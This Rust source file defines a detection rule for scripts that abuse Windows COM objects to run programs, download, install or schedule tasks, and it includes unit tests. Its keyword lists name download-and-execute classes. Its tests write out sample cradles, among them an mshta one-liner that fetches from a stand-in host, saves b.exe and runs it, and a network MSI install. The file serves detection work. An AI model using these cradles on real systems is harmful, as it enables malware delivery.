//! # IPC-COM-016: Script uses COM automation to execute, download or install
//!
//! ## What it detects
//! A script or command line that creates a COM object (`New-Object -ComObject`, `CreateObject`, `ActiveXObject`,
//! `GetTypeFromProgID` with one argument ...) and uses it to run programs, to download, to write the download to disk,
//! to install or to schedule. Two such uses, a class given by its id alone, or an installation from the network are
//! high.
//!
//! ## Why it matters
//! COM gives scripts the capabilities for which PowerShell's own commands are monitored: processes, downloads, tasks.
//!
//! ## Telemetry
//! PowerShell 4104, Sysmon 1, Security 4688.
//!
//! ## False positives
//! Logon scripts and deployment tools that run programs through `WScript.Shell`: medium; allow by script and account.
//! Objects on other machines (two arguments) are IPC-DCOM-023.
//!
//! ## References
//! ATT&CK T1559.001, T1059, T1105; DET0224 (AN0628).

use backchannel_events::{
    Activity, ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source,
};

use crate::text::{clip, contains, contains_any, find};
use crate::vocabulary::com_classes;
use crate::{Analytic, Context, Evidence, Family, predicates};

/// Maximum length of the text searched, in bytes.
const SEARCHED: usize = 64 * 1024;

pub const ANALYTIC: Analytic = Analytic {
    id: "IPC-COM-016",
    title: "Script uses COM automation to execute, download or install",
    family: Family::ComponentObjectModel,
    techniques: &["T1559.001", "T1059", "T1105"],
    attack_analytics: &["AN0628"],
    severity: Severity::Medium,
    on: &[ActivityKind::Script, ActivityKind::ProcessStart],
    telemetry: &[Source::PowerShell, Source::Sysmon, Source::Security],
    evaluate,
    ..Analytic::DEFAULTS
};

fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
    let (text, path) = match &event.activity {
        Activity::Script(script) => (script.text, script.path),
        Activity::ProcessStart => (event.process.command_line, ""),
        _ => return None,
    };
    if !creates_object(context) {
        return None;
    }
    let text = fold(clip(text, SEARCHED));
    if !activates_here(&text) {
        return None;
    }
    let uses = Uses::of(&text);
    let (first, more) = (uses.names.first()?, uses.names.len() - 1);
    let strong = uses.strong || more > 0;
    let (severity, confidence) =
        if strong { (Severity::High, Confidence::High) } else { (Severity::Medium, Confidence::Medium) };
    let subject = context.subject();
    let who = if subject.name().is_empty() { "A script" } else { subject.name() };
    let rest = if more > 0 { format!(" and {more} more") } else { String::new() };
    let sentence = format!("{who} drives COM objects to {first}{rest}, past the commands that are watched for it.");
    let from_user = !path.is_empty() && predicates::is_user_writable(path);
    let untrusted = predicates::is_unknown_binary(subject) || predicates::is_unknown_binary(context.parent());
    Some(
        Evidence::new(severity, confidence, sentence)
            .reasons(Reasons::NONE.and_if(untrusted || (strong && from_user), Reasons::UNKNOWN_BINARY))
            .indicators(Indicators::UNEXPECTED_USE)
            .client(subject)
            .channel(Mechanism::Com, uses.class),
    )
}

/// Whether a text creates COM objects at all: checked before anything is copied.
fn creates_object(context: &Context<'_>) -> bool {
    let words = &["ComObject", "CreateObject", "ActiveXObject", "GetTypeFromCLSID", "GetTypeFromProgID", "GetObject("];
    context.wording().is_some_and(|wording| wording.contains_any(words))
}

/// Whether one of the objects is created on this machine: the type look-ups take the other machine as their second
/// argument.
fn activates_here(text: &str) -> bool {
    if contains_any(text, &["comobject", "createobject", "activexobject", "getobject("]) {
        return true;
    }
    ["gettypefromclsid(", "gettypefromprogid("].iter().any(|call| {
        text.match_indices(call).any(|(at, _)| {
            let arguments = text.get(at + call.len()..).unwrap_or("");
            !arguments.split(')').next().unwrap_or("").contains(',')
        })
    })
}

/// What a script does with its objects.
struct Uses {
    names: Vec<&'static str>,
    /// Whether one of them is sufficient alone.
    strong: bool,
    /// The class to report.
    class: &'static str,
}

impl Uses {
    fn of(text: &str) -> Self {
        let mut uses = Self { names: Vec::new(), strong: false, class: "" };
        let by_id = contains(text, "clsid") && com_classes::names_cradle_class(text);
        if contains(text, "wscript.shell") && contains_any(text, &[".run(", ".exec(", ".run ", ".exec "]) {
            uses.add("run programs", "WScript.Shell");
        }
        if contains_any(text, &["shellexecute(", "shellexecute ", "shellexecute\n"])
            && (contains_any(text, &["shell.application", "document.application"]) || by_id)
        {
            uses.add("run programs through the shell", "Shell.Application");
            uses.strong |= by_id;
        }
        let fetches = ["xmlhttp", "winhttprequest", "winhttp.", "internetexplorer.application", "serverxmlhttp"];
        if contains_any(text, &fetches)
            && contains_any(text, &["http:", "https:", ".open(get", ".open(post", "navigate"])
        {
            uses.add("fetch from the network", "MSXML2.XMLHTTP");
        }
        if contains_any(text, &["word.application", "excel.application"])
            && contains_any(text, &[".open(http", ".open(\\\\"])
        {
            uses.add("fetch from the network through Office", "Word.Application");
        }
        if contains(text, "windowsinstaller.installer") && contains(text, "installproduct") {
            uses.add("install software", "WindowsInstaller.Installer");
            uses.strong |= after(text, "installproduct")
                .is_some_and(|rest| contains_any(clip(rest, 200), &["http:", "https:", "\\\\"]));
        }
        if contains(text, "adodb.stream") && contains(text, "savetofile") {
            uses.add("write what was fetched to a file", "ADODB.Stream");
        }
        if contains(text, "schedule.service") && contains_any(text, &["registertask(", "registertaskdefinition"]) {
            uses.add("schedule a task", "Schedule.Service");
        }
        if contains(text, "mmc20.application") && contains(text, "executeshellcommand") {
            uses.add("run programs through MMC", "MMC20.Application");
            uses.strong = true;
        }
        if contains_any(text, &["htmlfile", "htafile"])
            && contains_any(text, &["parentwindow", "execscript", ".write("])
        {
            uses.add("run script through an HTML document", "htmlfile");
        }
        if by_id && contains_any(text, &["createinstance", "invokemember", "new:{"]) {
            uses.add("create a class by its bare id", "");
            uses.strong = true;
        }
        uses
    }

    fn add(&mut self, name: &'static str, class: &'static str) {
        self.names.push(name);
        if self.class.is_empty() {
            self.class = class;
        }
    }
}

fn after<'t>(text: &'t str, mark: &str) -> Option<&'t str> {
    find(text, mark).and_then(|at| text.get(at + mark.len()..))
}

/// The text in lower case without quotes, brackets and the escape characters that shells remove.
fn fold(text: &str) -> String {
    text.chars()
        .filter(|c| !matches!(c, '"' | '\'' | '`' | '^' | '[' | ']' | '\u{201c}' | '\u{201d}'))
        .map(|c| c.to_ascii_lowercase())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;

    #[test]
    fn a_shell_object_that_runs_a_program_is_medium() {
        let events = [script(0, r#"$s = New-Object -ComObject "WScript.Shell"; $s.Run("notepad.exe")"#)];
        check(&ANALYTIC, &events, Some((Severity::Medium, Confidence::Medium)));
    }

    #[test]
    fn a_download_that_is_saved_and_run_is_high() {
        let line = "mshta.exe javascript:x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://a.example/b',0);\
                    s=new ActiveXObject('ADODB.Stream');s.SaveToFile('b.exe');new ActiveXObject('WScript.Shell').Run('b.exe')";
        check(&ANALYTIC, &[start(0, r"C:\Windows\System32\mshta.exe", line)], Some((Severity::High, Confidence::High)));
    }

    #[test]
    fn a_class_given_by_its_id_is_high() {
        let text = r#"$t = [Type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")
            $o = [Activator]::CreateInstance($t)
            $o.Item().Document.Application.ShellExecute("cmd.exe", "/c x", "c:\windows", $null, 0)"#;
        check(&ANALYTIC, &[script(0, text)], Some((Severity::High, Confidence::High)));
    }

    #[test]
    fn an_installation_from_the_network_is_high() {
        let text =
            r#"$i = New-Object -ComObject WindowsInstaller.Installer; $i.InstallProduct("https://a.example/x.msi")"#;
        check(&ANALYTIC, &[script(0, text)], Some((Severity::High, Confidence::High)));
    }

    #[test]
    fn an_object_on_another_machine_is_left_to_another_analytic() {
        let text = r#"$o=[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","10.0.0.9"))
            $o.Document.ActiveView.ExecuteShellCommand("cmd",$null,"/c x","7")"#;
        check(&ANALYTIC, &[script(0, text)], None);
    }

    #[test]
    fn a_shortcut_or_a_spreadsheet_is_quiet() {
        let events = [
            script(0, r#"$s = New-Object -ComObject WScript.Shell; $l = $s.CreateShortcut("a.lnk"); $l.Save()"#),
            script(1, "$x = New-Object -ComObject Excel.Application; $x.Workbooks.Open('C:\\data\\a.xlsx')"),
            script(2, "Get-ChildItem -Path http: ; .Run("),
        ];
        check(&ANALYTIC, &events, None);
    }
}
